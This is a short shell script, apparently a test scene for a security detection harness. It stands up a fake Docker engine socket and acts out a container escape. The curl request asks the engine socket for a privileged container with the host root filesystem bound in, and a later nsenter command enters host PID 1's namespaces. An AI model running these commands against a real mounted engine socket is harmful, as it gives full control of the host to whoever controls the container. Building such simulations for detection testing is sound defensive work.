# Out of a container by the engine's socket, which somebody mounted into it: a container is asked for that holds the host.
. "$(dirname "$0")/scene.sh"
cat >engine.py <<'END'
import socket
server = socket.socket(socket.AF_UNIX)
server.bind("/run/docker.sock")
server.listen()
open("ready", "w").write("1")
while True:
    peer, _ = server.accept()
    peer.recv(65536)
    peer.sendall(b"HTTP/1.1 201 Created\r\nContent-Length: 2\r\nConnection: close\r\n\r\n{}")
    peer.close()
END
python3 engine.py &
engine=$!
while [ ! -s ready ]; do sleep 0.1; done
deed container-engine-socket
curl -s --unix-socket /run/docker.sock -H 'Content-Type: application/json' \
  -d '{"Image":"alpine","HostConfig":{"Privileged":true,"Binds":["/:/host"]}}' http://localhost/containers/create >/dev/null
deed container-escape
nsenter --target 1 --mount --uts -- true
kill "$engine"
